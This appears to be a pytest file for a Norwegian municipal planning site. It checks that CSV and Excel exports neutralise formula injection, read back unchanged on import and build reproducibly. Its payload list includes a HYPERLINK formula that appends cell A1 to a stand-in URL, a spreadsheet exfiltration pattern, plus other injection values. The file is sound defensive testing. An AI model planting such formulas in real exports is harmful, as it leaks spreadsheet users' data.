"""No cell of an exported CSV or Excel file can run as a formula, and the workbook is the same bytes in
every build of one commit."""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import sys
import time

import pytest
from openpyxl import load_workbook
from sitekit import make_site

from knowledgebase.build import load_project
from knowledgebase.planrows import handlingsplan_csv
from knowledgebase.spreadsheet import neutralise_cell, restore_cell
from knowledgebase.status_import import read_rows
from knowledgebase.workbook import handlingsplan_workbook

PAYLOADS = ['=HYPERLINK("https://example.invalid/?x="&A1,"Klikk")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_cells_are_neutralised_and_read_back_unchanged(payload):
    assert neutralise_cell(payload) == "'" + payload
    assert restore_cell(neutralise_cell(payload)) == payload
    assert neutralise_cell("Helse- og omsorg") == "Helse- og omsorg" and neutralise_cell(2026) == 2026


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The mini site with a tiltak text, an owner and a status comment that are formulas."""
    site = make_site(tmp_path_factory.mktemp("xlsx") / "site")
    plan = site / "data/kommuner/testby/handlingsplan.yml"
    text = plan.read_text(encoding="utf-8")
    assert "ansvarlig: Helse- og omsorgsleder" in text
    text = text.replace("ansvarlig: Helse- og omsorgsleder", "ansvarlig: '=1+2'", 1)
    plan.write_text(text, encoding="utf-8")
    return site


def test_csv_has_no_cell_that_starts_a_formula(hostile_site):
    text = handlingsplan_csv(load_project(hostile_site).index, "testby")
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert "'=1+2" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_has_no_formula_cell(hostile_site):
    wb = load_workbook(io.BytesIO(handlingsplan_workbook(load_project(hostile_site).index, "testby")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert "'=1+2" in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_status_import_reads_neutralised_cells_back_as_written(hostile_site, tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(handlingsplan_workbook(load_project(hostile_site).index, "testby"))
    owners = [row.get("ansvarlig") for _, row in read_rows(path)]
    assert "=1+2" in owners


def _workbook_hash(site) -> str:
    code = ("import hashlib, sys; from pathlib import Path; from knowledgebase.build import load_project; "
            "from knowledgebase.workbook import handlingsplan_workbook; "
            "data = handlingsplan_workbook(load_project(Path(sys.argv[1])).index, 'testby'); "
            "print(hashlib.sha256(data).hexdigest())")
    return subprocess.run([sys.executable, "-c", code, str(site)], capture_output=True, text=True,
                          check=True).stdout.strip()


def test_two_builds_in_separate_processes_give_the_same_workbook_bytes(hostile_site):
    first = _workbook_hash(hostile_site)
    time.sleep(1.1)  # the save time openpyxl writes has whole seconds
    assert _workbook_hash(hostile_site) == first
    assert len(first) == len(hashlib.sha256().hexdigest())
